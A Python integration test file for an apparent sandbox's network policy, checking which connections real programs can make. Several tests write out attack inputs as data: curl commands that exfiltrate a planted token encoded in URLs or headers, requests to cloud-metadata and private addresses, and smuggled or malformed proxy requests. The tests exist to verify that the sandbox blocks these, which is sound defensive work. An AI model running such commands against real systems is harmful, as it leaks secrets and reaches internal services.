"""The network of sandboxes, end to end: real programs reach servers exactly as policy says.

The outside is this machine's own network namespace, in which every public address is local: so
names lead to public addresses, and nothing leaves. Skipped where no such namespace can be made.
"""
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import unittest

import harness
import servers

NAMES = {"api.example.com": "93.184.215.14", "other.example.com": "93.184.215.15",
         "evil.example.com": "10.9.8.7", "loop.example.com": "127.0.0.1",
         "cloud.example.com": "169.254.169.254", "mixed.example.com": "93.184.215.14"}
BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
ALONE = "HARDSHELL_TEST_NETWORK"


def enter_namespace():
    """Runs this file again in a network and mount namespace of its own."""
    unshare = ["unshare", "--mount", "--net"] if os.geteuid() == 0 else ["unshare", "--map-root-user", "--mount",
                                                                         "--net"]
    if subprocess.run([*unshare, "true"], capture_output=True, check=False).returncode != 0:
        print("skipped: no network namespace can be made here")
        sys.exit(77)
    if shutil.which("ip") is None:
        print("skipped: the program ip (iproute2) is not installed")
        sys.exit(77)
    os.environ[ALONE] = "1"
    os.execvp(unshare[0], [*unshare, sys.executable, *sys.argv])


def set_up_outside(folder):
    run = lambda *command: subprocess.run(command, check=True)
    run("ip", "link", "set", "lo", "up")
    for route in ("93.184.215.0/24", "10.9.8.0/24", "169.254.169.254/32"):
        run("ip", "route", "add", "local", route, "dev", "lo")
    certificates = servers.Certificates(folder, sorted(NAMES))
    bundle = pathlib.Path(folder) / "bundle.pem"
    bundle.write_text(pathlib.Path(BUNDLE).read_text() + certificates.authority.read_text())
    hosts = pathlib.Path(folder) / "hosts"
    # A name that leads to a public and to a private address, as one that is being turned would.
    lines = [f"{address} {name}" for name, address in NAMES.items()] + ["10.9.8.7 mixed.example.com"]
    hosts.write_text("127.0.0.1 localhost\n" + "\n".join(lines) + "\n")
    run("mount", "--bind", str(bundle), BUNDLE)
    run("mount", "--bind", str(hosts), "/etc/hosts")
    return certificates


class World:
    """Once for all tests: the outside's servers."""

    def __init__(self):
        self.folder = tempfile.mkdtemp(prefix="outside-")
        os.chmod(self.folder, 0o755)
        self.certificates = set_up_outside(self.folder)
        self.repositories = pathlib.Path(self.folder) / "repositories"
        self.make_repository()
        context = self.certificates.context()
        self.api = servers.Outside(("93.184.215.14", 443), context, self.repositories)
        self.api_plain = servers.Outside(("93.184.215.14", 80), None, self.repositories)
        self.api_odd = servers.Outside(("93.184.215.14", 8443), context, self.repositories)
        self.other = servers.Outside(("93.184.215.15", 443), context, self.repositories)
        self.inner = [servers.Outside((address, port), None, self.repositories)
                      for address in ("10.9.8.7", "169.254.169.254", "127.0.0.1") for port in (80,)]
        self.inner.append(servers.Outside(("10.9.8.7", 443), context, self.repositories))

    def make_repository(self):
        bare = self.repositories / "project.git"
        git = lambda *arguments, cwd=None: subprocess.run(["git", *arguments], cwd=cwd, check=True,
                                                          capture_output=True)
        git("init", "--bare", "-b", "main", str(bare))
        git("config", "http.receivepack", "true", cwd=bare)
        work = pathlib.Path(self.folder) / "work"
        git("init", "-b", "main", str(work))
        (work / "file.txt").write_text("from the repository\n")
        git("add", ".", cwd=work)
        git("-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-m", "one", cwd=work)
        git("push", str(bare), "main", cwd=work)
        self.bare = bare


class Network(unittest.TestCase):
    preset = ""

    def setUp(self):
        self.hardshell = harness.Installation(self.preset)
        self.addCleanup(self.hardshell.close)
        self.hardshell.cli("sandbox", "run", "--", "true")  # starts the daemon
        for server in (WORLD.api, WORLD.api_plain, WORLD.api_odd, WORLD.other, *WORLD.inner):
            server.seen.clear()

    def run_in(self, *command, plain=True, profile=None, check=False, **options):
        """Runs a command in a sandbox; plain: without the variables that name proxies."""
        chosen = ["--profile", profile] if profile else []
        if plain:
            drop = [f"-u{name}" for base in ("http_proxy", "https_proxy", "all_proxy", "no_proxy")
                    for name in (base, base.upper())]
            command = ("env", *drop, *command)
        return self.hardshell.cli("sandbox", "run", *chosen, "--", *command, check=check, **options)

    def rules(self, text):
        folder = self.hardshell.config_file.parent / "policy"
        (folder / "test.cedar").write_text(textwrap.dedent(text))
        # The daemon may not run yet; then it reads the file when it starts.
        self.hardshell.cli("policy", "reload")

    def in_background(self, *command):
        return self.hardshell.background("sandbox", "run", "--", *command)

    def connections(self):
        return [event["detail"] for event in self.hardshell.events(400) if event["kind"] == "connection"]


class Looking(Network):
    """The personal preset: GET over TLS is free, everything else asks or is out of reach."""

    def test_programs_that_know_no_proxy_reach_a_server(self):
        programs = {
            "curl": ["curl", "-sS", "https://api.example.com/hello"],
            "wget": ["wget", "-qO-", "https://api.example.com/hello"],
            "python": ["/usr/bin/python3", "-c",
                       "import urllib.request as u; print(u.urlopen('https://api.example.com/hello').read())"],
            "node": ["node", "-e", "require('https').get('https://api.example.com/hello', r => r.pipe(process.stdout))"],
        }
        for name, command in programs.items():
            with self.subTest(name):
                if shutil.which(command[0]) is None:
                    self.skipTest(f"{command[0]} is not installed")
                done = self.run_in(*command)
                self.assertIn("hello from outside", done.stdout, done.stderr)
        found = [one for one in self.connections() if one.get("path") == "/hello"]
        self.assertTrue(found)
        self.assertEqual(found[-1]["host"], "api.example.com")
        self.assertEqual(found[-1]["address"], "93.184.215.14")
        self.assertTrue(self.hardshell.json("audit", "verify")["verified"])

    def test_java_trusts_what_the_sandbox_trusts(self):
        if shutil.which("javac") is None:
            self.skipTest("no JDK is installed")
        (self.hardshell.project / "Get.java").write_text(textwrap.dedent("""
            import java.net.URI; import java.net.http.*;
            public class Get { public static void main(String[] a) throws Exception {
                var answer = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build().send(
                    HttpRequest.newBuilder(URI.create("https://api.example.com/hello")).build(),
                    HttpResponse.BodyHandlers.ofString());
                System.out.println(answer.body()); } }"""))
        done = self.run_in("java", "Get.java")
        self.assertIn("hello from outside", done.stdout, done.stderr)

    def test_programs_that_know_proxies_reach_a_server(self):
        for proxy in ("http://127.0.0.1:3128", "socks5h://127.0.0.1:1080"):
            done = self.run_in("curl", "-sS", "--proxy", proxy, "https://api.example.com/hello")
            self.assertIn("hello from outside", done.stdout, done.stderr)
        # A port without an outlet is reached through the proxy alone.
        odd = "https://api.example.com:8443/hello"
        self.assertIn("hello from outside", self.run_in("curl", "-sS", odd, plain=False).stdout)
        self.assertEqual(self.run_in("curl", "-sS", odd).returncode, 7)

    def test_clone_is_free_and_push_is_asked(self):
        script = ("git clone -q https://api.example.com/project.git copy && cat copy/file.txt && cd copy && "
                  "git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m two && "
                  "git push -q origin HEAD:main && echo pushed")
        turn = self.in_background("sh", "-c", script)
        approval = self.hardshell.wait_for_approval(30)
        self.assertEqual(approval["action"]["target"], "/project.git/git-receive-pack")
        self.assertIn("git push", approval["card"])
        self.assertFalse(WORLD.api.asked("git-receive-pack"))
        self.hardshell.cli("approvals", "approve", approval["id"])
        said, errors = turn.communicate(timeout=60)
        self.assertIn("from the repository", said, errors)
        self.assertIn("pushed", said, errors)
        self.assertEqual(self.hardshell.approvals(), [])  # one consent for both of git's requests
        self.assertTrue(WORLD.api.asked("POST /project.git/git-receive-pack"))

    def test_a_push_that_is_denied_reaches_nobody(self):
        script = ("git clone -q https://api.example.com/project.git copy && cd copy && "
                  "git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m evil && "
                  "git push -q origin HEAD:main")
        turn = self.in_background("sh", "-c", script)
        approval = self.hardshell.wait_for_approval(30)
        self.hardshell.cli("approvals", "deny", approval["id"])
        turn.communicate(timeout=60)
        self.assertNotEqual(turn.returncode, 0)
        self.assertFalse(WORLD.api.asked("git-receive-pack"))
        log = subprocess.run(["git", "log", "--format=%s", "main"], cwd=WORLD.bare, capture_output=True,
                             text=True, check=True).stdout
        self.assertNotIn("evil", log)

    def test_graphql_is_told_by_its_operation(self):
        post = lambda body: ("curl", "-sS", "-H", "Content-Type: application/json", "-d", body,
                             "https://api.example.com/graphql")
        looked = self.run_in(*post('{"query":"{ viewer { login } }"}'))
        self.assertIn("posted", looked.stdout, looked.stderr)
        turn = self.in_background(*post('{"query":"mutation { createIssue(input: {}) { id } }"}'))
        approval = self.hardshell.wait_for_approval(30)
        self.assertIn("mutation createIssue", approval["card"])
        self.hardshell.cli("approvals", "deny", approval["id"])
        self.assertIn("refused_by_policy", turn.communicate(timeout=30)[0])
        # What cannot be told counts as anything.
        for body in ('{"extensions":{"persistedQuery":{"sha256Hash":"00"}}}', '{"query":"{"}'):
            turn = self.in_background(*post(body))
            self.hardshell.cli("approvals", "deny", self.hardshell.wait_for_approval(30)["id"])
            turn.communicate(timeout=30)
        self.assertEqual(len(WORLD.api.asked("POST /graphql")), 1)

    def test_what_is_sent_is_what_was_approved(self):
        turn = self.in_background("curl", "-sS", "-d", "some data", "https://api.example.com/post")
        approval = self.hardshell.wait_for_approval(30)
        self.assertEqual(approval["action"]["method"], "POST")
        self.assertEqual(approval["action"]["body_bytes"], 9)
        self.assertEqual(len(approval["action"]["body_sha256"]), 64)
        self.hardshell.cli("approvals", "approve", approval["id"])
        said, errors = turn.communicate(timeout=30)
        self.assertIn("posted 9 bytes", said, errors)
        # Once means once.
        again = self.in_background("curl", "-sS", "-d", "some data", "https://api.example.com/post")
        self.hardshell.cli("approvals", "deny", self.hardshell.wait_for_approval(30)["id"])
        self.assertIn("refused_by_policy", again.communicate(timeout=30)[0])
        self.assertEqual(len(WORLD.api.asked("POST /post")), 1)

    def test_npm_installs_from_a_registry(self):
        if shutil.which("npm") is None:
            self.skipTest("npm is not installed")
        (self.hardshell.project / "package.json").write_text('{"name":"x","version":"1.0.0"}')
        for plain in (True, False):
            done = self.run_in("npm", "install", "--no-audit", "--no-fund", "--registry",
                               "https://api.example.com/", "tiny", plain=plain, timeout=120)
            self.assertEqual(done.returncode, 0, done.stdout + done.stderr)
            shown = self.run_in("node", "-p", "require('tiny')")
            self.assertIn("tiny works", shown.stdout, shown.stderr)
            shutil.rmtree(self.hardshell.project / "node_modules")

    def test_plain_http_is_asked(self):
        turn = self.in_background("curl", "-sS", "http://api.example.com/hello")
        approval = self.hardshell.wait_for_approval(30)
        self.assertEqual(approval["action"]["scheme"], "http")
        self.assertFalse(WORLD.api_plain.seen)
        self.hardshell.cli("approvals", "approve", approval["id"])
        self.assertIn("hello from outside", turn.communicate(timeout=30)[0])


class Reach(Network):
    """Where nothing leads, however it is asked for."""

    def test_names_that_lead_inside_are_refused(self):
        for name in ("evil.example.com", "loop.example.com", "cloud.example.com", "mixed.example.com"):
            with self.subTest(name):
                done = self.run_in("curl", "-sS", f"https://{name}/hello")
                self.assertIn("address_refused", done.stdout, done.stderr)
        self.assertFalse(any(server.seen for server in WORLD.inner))

    def test_addresses_inside_are_refused(self):
        for address in ("10.9.8.7", "169.254.169.254", "192.168.1.1", "[::ffff:169.254.169.254]", "[fd00::1]"):
            for plain in (True, False):
                done = self.run_in("curl", "-sS", "-m", "20", f"http://{address}/hello", plain=plain)
                self.assertNotIn("hello from outside", done.stdout, address)
        self.assertFalse(any(server.seen for server in WORLD.inner))

    def test_loopback_is_the_sandboxs_own(self):
        done = self.run_in("curl", "-sS", "http://127.0.0.1/hello")
        self.assertNotIn("hello from outside", done.stdout)
        served = self.run_in("sh", "-c", "/usr/bin/python3 -m http.server -b 127.0.0.1 8765 >/dev/null 2>&1 & "
                             "for i in 1 2 3 4 5 6 7 8 9; do sleep 0.3; "
                             "curl -s http://127.0.0.1:8765/README.md && break; done", plain=False)
        self.assertIn("Its second line", served.stdout, served.stderr)

    def test_other_ports_and_datagrams_refuse(self):
        script = textwrap.dedent("""
            import socket
            for port in (25, 8443, 9999):
                s = socket.socket(); s.settimeout(5)
                print(port, s.connect_ex(("93.184.215.14", port)))
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
            u.connect(("93.184.215.14", 443)); u.send(b"x")
            try: print("udp", u.recv(10))
            except OSError as problem: print("udp", problem.errno)
            """)
        done = self.run_in("/usr/bin/python3", "-c", script)
        for port in (25, 8443, 9999):
            self.assertIn(f"{port} 111", done.stdout, done.stderr)
        self.assertIn("udp 111", done.stdout)

    def test_the_hello_must_name_the_host(self):
        script = textwrap.dedent("""
            import socket, ssl
            def visit(dial, name, host):
                context = ssl.create_default_context()
                try:
                    stream = context.wrap_socket(socket.create_connection((dial, 443), 10), server_hostname=name)
                    stream.sendall(f"GET /hello HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n".encode())
                    text = b"".join(iter(lambda: stream.recv(4096), b""))
                    return text.decode().split("\\r\\n")[0]
                except OSError as problem:
                    return type(problem).__name__
            print("same:", visit("api.example.com", "api.example.com", "api.example.com"))
            print("hello:", visit("api.example.com", "other.example.com", "other.example.com"))
            print("host:", visit("api.example.com", "api.example.com", "other.example.com"))
            print("address:", visit("93.184.215.15", "api.example.com", "api.example.com"))
            """)
        done = self.run_in("/usr/bin/python3", "-c", script)
        self.assertIn("same: HTTP/1.1 200", done.stdout, done.stderr)
        self.assertNotIn("200", done.stdout.split("hello:")[1].split("\n")[0])
        self.assertIn("host: HTTP/1.1 421", done.stdout)
        # Who dials an address and names a host gets the host, wherever the address would lead.
        self.assertIn("address: HTTP/1.1 200", done.stdout)
        self.assertFalse(WORLD.other.seen)

    def test_a_profile_without_network_has_none(self):
        for profile in ("read", "work"):
            done = self.run_in("curl", "-sS", "-m", "10", "https://api.example.com/hello", profile=profile)
            self.assertNotEqual(done.returncode, 0)
            self.assertNotIn("hello from outside", done.stdout)

    def test_odd_requests_to_the_proxy_reach_nobody(self):
        requests = ["GET /hello HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
                    "GET http://api.example.com/hello HTTP/1.1\r\nHost: other.example.com\r\n\r\n",
                    "GET https://api.example.com/hello HTTP/1.1\r\nHost: api.example.com\r\n"
                    "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                    "CONNECT api.example.com HTTP/1.1\r\n\r\n", "CONNECT 10.9.8.7:80 HTTP/1.1\r\nHost: x\r\n\r\n",
                    "CONNECT api.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\nGET /hello HTTP/1.1\r\n\r\n",
                    "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: x\r\n\r\n", "X" * 100_000]
        script = textwrap.dedent(f"""
            import socket
            for text in {requests!r}:
                s = socket.create_connection(("127.0.0.1", 3128), 10); s.settimeout(15)
                try:
                    s.sendall(text.encode()); s.shutdown(1)
                    print(b"".join(iter(lambda: s.recv(4096), b""))[:60])
                except OSError as problem: print(problem)
            """)
        done = self.run_in("/usr/bin/python3", "-c", script)
        self.assertNotIn("200 OK", done.stdout, done.stderr)
        self.assertFalse(WORLD.api.seen)
        self.assertFalse(any(server.seen for server in WORLD.inner))


class Tunnels(Network):
    """A person's rule lets TLS to one host pass unseen."""

    def setUp(self):
        super().setUp()
        self.rules("""
            @id("test-tunnel")
            permit (principal, action == Hardshell::Action::"connect",
                    resource == Hardshell::Host::"api.example.com:443");
            """)

    def test_tls_is_the_servers_own(self):
        done = self.run_in("curl", "-sSv", "-d", "unseen", "https://api.example.com/post")
        self.assertIn("posted 6 bytes", done.stdout, done.stderr)
        self.assertIn("CN=Test outside", done.stderr)
        tunnel = [one for one in self.connections() if one.get("purpose") == "tunnel"][-1]
        self.assertEqual(tunnel["host"], "api.example.com")
        self.assertGreater(tunnel["sent_bytes"], 100)
        self.assertGreater(tunnel["received_bytes"], 100)

    def test_another_hosts_hello_does_not_pass(self):
        script = ("import socket, ssl; c = ssl.create_default_context();\n"
                  "s = socket.create_connection(('127.0.0.1', 3128));\n"
                  "s.sendall(b'CONNECT api.example.com:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); print(s.recv(100));\n"
                  "c.wrap_socket(s, server_hostname='other.example.com')")
        done = self.run_in("/usr/bin/python3", "-c", script)
        self.assertNotEqual(done.returncode, 0)
        codes = [one.get("error", {}).get("code") for one in self.connections()]
        self.assertIn("host_disagrees", codes)
        self.assertFalse(WORLD.api.seen)

    def test_what_is_no_tls_does_not_pass(self):
        script = ("import socket; s = socket.create_connection(('api.example.com', 443)); s.settimeout(15)\n"
                  "s.sendall(b'GET /hello HTTP/1.1\\r\\n\\r\\n'); print(s.recv(100))")
        done = self.run_in("/usr/bin/python3", "-c", script)
        self.assertNotIn("HTTP/1.1", done.stdout)

    def test_policy_that_changes_cuts_what_runs(self):
        held = self.in_background("/usr/bin/python3", "-c", textwrap.dedent("""
            import socket, ssl, sys
            s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.example.com", 443)),
                                                         server_hostname="api.example.com")
            print("open", flush=True)
            print("end", s.recv(10))
            """))
        self.assertIn("open", held.stdout.readline())
        self.rules("// the rule is gone\n")
        said, errors = held.communicate(timeout=30)
        self.assertTrue("end" in said or "reset" in errors.lower() or "EOF" in errors, said + errors)

    def test_a_sandboxs_end_closes_its_connections(self):
        held = self.in_background("/usr/bin/python3", "-c",
                                  "import socket, time; s = socket.create_connection(('api.example.com', 443)); "
                                  "print('open', flush=True); time.sleep(60)")
        self.assertIn("open", held.stdout.readline())
        held.terminate()
        held.communicate(timeout=30)
        self.assertEqual(held.returncode, 130)
        self.assertIn("effect.ended", [event["kind"] for event in self.hardshell.events(20)])


class Secrets(Network):
    VALUE = "tok_0123456789abcdefXYZ/+planted"

    def setUp(self):
        super().setUp()
        self.hardshell.cli("secret", "set", "deploy", "--host", "api.example.com", stdin=self.VALUE + "\n")

    def test_the_value_is_placed_and_never_seen(self):
        done = self.run_in("sh", "-c", 'curl -sS -H "Authorization: Bearer $HARDSHELL_SECRET_DEPLOY" '
                           "https://api.example.com/echo; env")
        self.assertTrue(WORLD.api.asked("/echo"), done.stdout + done.stderr)
        self.assertEqual(WORLD.api.asked("/echo")[-1]["headers"]["Authorization"], "Bearer " + self.VALUE)
        self.assertIn("you sent", done.stdout, done.stderr)
        self.assertNotIn(self.VALUE, done.stdout)
        self.assertNotIn(self.VALUE, str(self.hardshell.events(400)))

    def test_a_placeholder_goes_nowhere_else(self):
        done = self.run_in("sh", "-c", 'curl -sS -H "Authorization: Bearer $HARDSHELL_SECRET_DEPLOY" '
                           "https://other.example.com/echo")
        self.assertIn("secret_leaves", done.stdout, done.stderr)
        self.assertFalse(WORLD.other.seen)

    def test_a_value_that_was_found_elsewhere_does_not_leave(self):
        # As if a program had it from a file.
        (self.hardshell.project / "notes.txt").write_text(self.VALUE)
        for command in ('curl -sS "https://other.example.com/$(base64 -w0 notes.txt | tr / _ | tr + -)"',
                        'curl -sS -H "X-Data: $(cat notes.txt)" https://other.example.com/',
                        'curl -sS "https://other.example.com/?$(od -An -tx1 notes.txt | tr -d " \\n")"'):
            done = self.run_in("sh", "-c", command)
            self.assertIn("secret_leaves", done.stdout, done.stderr)
        turn = self.in_background("curl", "-sS", "--data-binary", "@notes.txt", "https://other.example.com/post")
        self.hardshell.cli("approvals", "approve", self.hardshell.wait_for_approval(30)["id"])
        self.assertIn("secret_leaves", turn.communicate(timeout=30)[0])
        self.assertFalse(WORLD.other.seen)
        codes = [one.get("error", {}).get("code") for one in self.connections()]
        self.assertIn("secret_leaves", codes)


if __name__ == "__main__":
    if ALONE not in os.environ:
        enter_namespace()
    WORLD = World()
    unittest.main()
